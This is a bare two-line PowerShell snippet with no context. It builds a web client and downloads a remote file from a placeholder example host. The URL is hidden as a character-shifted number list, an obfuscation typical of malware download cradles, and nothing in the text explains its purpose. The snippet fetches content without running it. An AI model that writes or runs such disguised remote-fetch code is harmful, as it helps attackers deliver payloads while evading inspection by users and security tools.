$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join (107,119,119,115,61,50,50,100,49,104,123,100,112,115,111,104,50,115,50,123,49,119,123,119 | %{[char]($_-3)})))
